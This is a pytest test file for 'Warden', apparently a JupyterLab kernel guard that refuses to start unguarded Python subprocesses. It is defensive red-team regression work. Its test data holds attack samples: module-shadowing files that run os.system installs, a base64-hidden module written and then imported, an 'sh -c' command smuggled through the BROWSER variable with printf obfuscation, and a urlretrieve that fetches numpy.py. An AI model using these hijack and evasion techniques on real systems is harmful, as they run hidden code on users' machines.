"""Red team 14, what a guardless Python runs (R14-1, R14-4, R14-8, R14-29).

A Python started with -I/-E/-S (or an environment that loses the guard) runs with no guard, so
the parent reads its code before it starts and refuses what it cannot read. Each malicious
case proves itself in a kernel of the lab's launch environment: without Warden the child
installs warden-demo-pkg from the local index with the real uv, with Warden the start is
refused before anything runs.

- R14-8: the standard-library reach's roots came from import-LINE regexes, so
  ``import sys; import uuid`` (or a one-line ``try: import uuid``) was no root and a local
  ``_uuid.py`` ran in place of the C module uuid imports. Roots now come from the syntax tree.
"""

import os

import pytest
from launched import reading_refusal

from jupyterlab_warden.kernel.guard.installs import guardless

PYTHON_E = "import os, sys\nos.system(sys.executable + ' -E app/train.py')\n"


def _payload(kernel, then: str = "raise ImportError('not here')") -> str:
    """A module that installs warden-demo-pkg from the test index when imported."""
    return f"import os\nos.system({kernel.uv_install()!r})\n{then}\n"


def _app(kernel, files) -> None:
    app = kernel.work / "app"
    app.mkdir(exist_ok=True)
    for name, text in files.items():
        (app / name).write_text(text)


# -- R14-8: the reach's roots from the syntax tree --------------------------------------------


@pytest.mark.parametrize(
    "train",
    ["import sys; import uuid\nprint('ok')\n", "try: import uuid\nexcept ImportError: pass\n"],
    ids=["after a semicolon", "one-line try"],
)
def test_an_import_not_first_on_its_line_is_a_root_of_the_reach(kernel, train):
    _app(kernel, {"_uuid.py": _payload(kernel), "train.py": train})
    refused = kernel.proves(PYTHON_E)
    assert "_uuid" in refused and "stands in" in refused, refused


@pytest.mark.parametrize(
    "code",
    [
        "import sys; import uuid",
        "def f():\n    import uuid",
        "x = 1\nif x:\n    from uuid import uuid4",
        "try: import uuid\nexcept ImportError: pass",
    ],
)
def test_imported_tops_reads_every_import_of_the_tree(code):
    assert "uuid" in guardless.imported_tops(code)
    assert "." not in "".join(guardless.imported_tops("from . import helpers"))


# -- R14-29: standard-library modules that start a program the environment names -------------


# webbrowser runs BROWSER's command line (split at ':' into choices, each shlex-split, `%s` the
# URL): here a shell building uv's name, the index URL's ':' made by printf
def _browser_cell(kernel, how: str) -> str:
    from launched import BUILT

    line = BUILT.format(target=kernel.target, index=kernel.index.simple)
    browser = "sh -c '" + line.replace(":", '$(printf "\\072")') + "' %s"
    return (
        "import os, subprocess, sys\n"
        f"env = dict(os.environ, BROWSER={browser!r})\n"
        f"subprocess.run([sys.executable, '-I', {how}], env=env)\n"
    )


@pytest.mark.parametrize(
    "how",
    ["'-m', 'webbrowser', '-t', 'http://127.0.0.1:9/'", "'-c', 'import antigravity'"],
    ids=["-m webbrowser", "import antigravity"],
)
def test_a_stdlib_module_running_browser_is_refused(kernel, how):
    refused = kernel.proves(_browser_cell(kernel, how))
    # since red team 25 R25-3 BROWSER's value, which names sh, is refused as given to the
    # start (command_values) before the module rule reads it: either refusal counts
    if "BROWSER, set by the notebook, holds a command that" not in refused:
        assert "webbrowser" in refused or "antigravity" in refused, refused
        assert "its environment" in refused, refused


@pytest.mark.parametrize(
    "argv",
    [
        ["python3", "-I", "-m", "webbrowser", "http://x/"],
        ["python3", "-I", "-m", "platform"],
        ["python3", "-I", "-m", "ctypes.util"],
        ["python3", "-I", "-m", "mailcap"],
        ["python3", "-I", "-m", "runpy", "webbrowser", "http://x/"],
        ["python3", "-I", "-c", "import antigravity"],
        ["python3", "-I", "-c", "import webbrowser"],
        ["python3", "-I", "-c", "from mailcap import findmatch"],
        ["python3", "-I", "-c", "help(len)"],
        ["python3", "-I", "-c", "h = help"],
    ],
)
def test_stdlib_programs_named_by_the_environment_are_refused(tmp_path, argv):
    why = reading_refusal(argv, tmp_path)
    assert "environment" in why or "help" in why, why


@pytest.mark.parametrize(
    "argv",
    [
        ["python3", "-I", "-c", "import sys; print(sys.version)"],
        ["python3", "-I", "-m", "json.tool", "x.json"],
        ["python3", "-E", "-c", "import platform; print(platform.system())"],
    ],
)
def test_ordinary_guardless_lines_still_start(tmp_path, argv):
    (tmp_path / "x.json").write_text("{}")
    assert reading_refusal(argv, tmp_path, {"BROWSER": "firefox", "PAGER": "cat"}) == ""


# -- R14-1: a module the code writes, then imports ----------------------------------------------

# the module's text, written by the script itself (base64: no installer word to search for)
WRITES = (
    "import base64, os\nhere = os.path.dirname(os.path.abspath(__file__))\n"
    "open(os.path.join(here, 'helper_x.py'), 'wb').write(base64.b64decode({b64!r}))\n"
    "import helper_x\n"
    # gone again, so the run with Warden starts from the same folder as the run without
    "import shutil\nos.remove(os.path.join(here, 'helper_x.py'))\n"
    "shutil.rmtree(os.path.join(here, '__pycache__'), ignore_errors=True)\n"
)


def _b64(kernel) -> str:
    import base64

    return base64.b64encode(_payload(kernel, "").encode()).decode()


def test_a_module_the_script_writes_and_imports_is_refused(kernel):
    _app(kernel, {"train.py": WRITES.format(b64=_b64(kernel))})
    refused = kernel.proves(PYTHON_E)
    assert "helper_x, which is found nowhere" in refused, refused


def test_a_module_written_in_place_of_an_installed_one_is_refused(kernel):
    # click is installed: found when the line starts, but the script's folder comes first
    train = WRITES.format(b64=_b64(kernel)).replace("helper_x", "click")
    _app(kernel, {"train.py": train})
    refused = kernel.proves(PYTHON_E)
    assert "may write files (" in refused and "may stand in for or replace" in refused, refused


@pytest.mark.parametrize(
    "code",
    [
        "import zipfile\nzipfile.ZipFile('m.zip').extractall('.')\nimport helper_z",
        "from pathlib import Path\nPath('h.py').write_text('x')\nimport h",
        "import os\nos.rename('a', 'h.py')\nimport h",
        "import shutil\nshutil.copy('a', 'json.py')\nimport json",
        "m = input()\nopen('numpy.py', m).write('x')\nimport numpy",
        "import urllib.request as u\nu.urlretrieve('http://x/', 'numpy.py')\nimport numpy",
    ],
)
def test_code_that_writes_and_imports_through_its_folder_is_refused(tmp_path, code):
    why = reading_refusal([os.sys.executable, "-E", "-c", code], tmp_path)
    assert "found nowhere" in why or "may write files" in why, why


def test_a_write_over_an_installed_module_is_refused_without_a_folder_before_it(tmp_path):
    # -I: no working folder on its path, but the code may write numpy's own file (a site
    # folder it can write to) before it imports it
    python = os.path.realpath(os.sys.executable)
    code = "import sys\nopen(sys.argv[1], 'w').write('x')\nimport numpy\n"
    why = reading_refusal([python, "-I", "-c", code], tmp_path)
    assert "may write files (open) and imports numpy" in why, why
    # imported by the code's first statements, before anything it writes: what it was
    assert (
        reading_refusal(
            [python, "-I", "-c", "import numpy, sys\nopen(sys.argv[1], 'w')\n"], tmp_path
        )
        == ""
    )
    # reading files and importing, or writing and importing nothing, still start
    # and os, loaded by site before the code runs, is no module a write replaces
    for code in (
        "import numpy, json\njson.load(open('x.json'))\n",
        "open('o.txt', 'w')\n",
        "import os, sys\nos.makedirs('out', exist_ok=True)\n",
    ):
        assert (
            reading_refusal([os.path.realpath(os.sys.executable), "-I", "-c", code], tmp_path) == ""
        )


# -- R14-4: a local file an installed package may import ---------------------------------------


@pytest.mark.parametrize(
    ("stand_in", "imported"),
    [("uuid", "click"), ("chardet", "requests")],
)
def test_a_local_file_an_installed_package_imports_is_refused(kernel, stand_in, imported):
    _app(kernel, {f"{stand_in}.py": _payload(kernel), "train.py": f"import {imported}\n"})
    refused = kernel.proves(PYTHON_E)
    assert f"installed {imported}, which may import {stand_in}" in refused, refused


@pytest.mark.parametrize(
    "entry",
    ["chardet.pyc", "chardet/__init__.py", "chardet/sub/x.py", "chardet.abi3.so"],
)
def test_any_importable_entry_beside_the_script_is_refused(tmp_path, entry):
    (tmp_path / entry).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / entry).write_text("x = 1\n")
    (tmp_path / "train.py").write_text("import requests\n")
    why = reading_refusal([os.sys.executable, "-E", "train.py"], tmp_path)
    assert "installed requests, which may import chardet" in why, why


# -- ordinary guardless lines still start -------------------------------------------------------

TRAIN = "import numpy\nimport torch\nimport helpers\nfrom models.net import build\nprint(1)\n"


def test_a_plain_training_script_with_its_own_modules_still_starts(tmp_path):
    (tmp_path / "train.py").write_text(TRAIN)
    (tmp_path / "helpers.py").write_text("import os\ndef here():\n    return os.getcwd()\n")
    (tmp_path / "models").mkdir()
    (tmp_path / "models" / "__init__.py").write_text("")
    (tmp_path / "models" / "net.py").write_text("def build():\n    return 1\n")
    (tmp_path / "__pycache__").mkdir()
    (tmp_path / "__pycache__" / "helpers.cpython-311.pyc").write_bytes(b"\0")
    (tmp_path / "data.csv").write_text("a,b\n")
    (tmp_path / "runs" / "ckpt").mkdir(parents=True)
    assert reading_refusal([os.sys.executable, "-E", "train.py"], tmp_path) == ""
    assert reading_refusal([os.sys.executable, "-E", str(tmp_path / "train.py")], tmp_path) == ""


def test_the_designed_false_refusal_an_unread_module_beside_an_installed_import(tmp_path):
    # a notes.py the script does not import, beside `import numpy`: numpy (any installed
    # package) may import it by name, so the start is refused (threat model, guardless16)
    (tmp_path / "train.py").write_text("import numpy\n")
    (tmp_path / "notes.py").write_text("x = 1\n")
    why = reading_refusal([os.sys.executable, "-E", "train.py"], tmp_path)
    assert "installed numpy, which may import notes" in why, why


ORDINARY = (
    "import os, subprocess, sys\n"
    "for argv in ([sys.executable, '-I', '-c', 'import sys; print(sys.version)'],\n"
    "             [sys.executable, '-I', '-m', 'json.tool', 'x.json'],\n"
    "             [sys.executable, '-E', 'app/train.py']):\n"
    "    subprocess.run(argv, check=True)\n"
)


def test_ordinary_guardless_lines_run_in_a_launched_kernel(kernel):
    (kernel.work / "x.json").write_text("{}")
    _app(kernel, {"train.py": TRAIN, "helpers.py": "def here():\n    return 1\n"})
    (kernel.work / "app" / "models").mkdir()
    (kernel.work / "app" / "models" / "__init__.py").write_text("")
    (kernel.work / "app" / "models" / "net.py").write_text("def build():\n    return 1\n")
    result = kernel.cell(ORDINARY, launched=True)
    assert result["refused"] is None, result
    assert "CalledProcessError" not in result.get("stderr", ""), result


# -- red team 17: a program the code starts writes too; logging without a file does not -------


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess\nsubprocess.run(['cp', 'p.txt', 'json.py'])\nimport json",
        "import os\nos.system('cp p.txt json.py')\nimport json",
        "import os\nos.posix_spawn('/bin/cp', ['cp', 'p.txt', 'json.py'], {})\nimport json",
    ],
)
def test_a_process_the_code_starts_counts_as_a_writer(tmp_path, code):
    """R17-1: the started program writes json.py into the working folder, which comes before
    the standard library for `-E -c`: `import json` then runs it."""
    why = reading_refusal([os.sys.executable, "-E", "-c", code], tmp_path)
    assert "may write files" in why and "json" in why, why


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess\nsubprocess.run(['ls', '-l'])",
        "import logging\nlogging.basicConfig()\nlogging.info(1)",
    ],
)
def test_starts_and_logging_without_a_file_still_run(tmp_path, code):
    assert reading_refusal([os.sys.executable, "-I", "-c", code], tmp_path) == ""
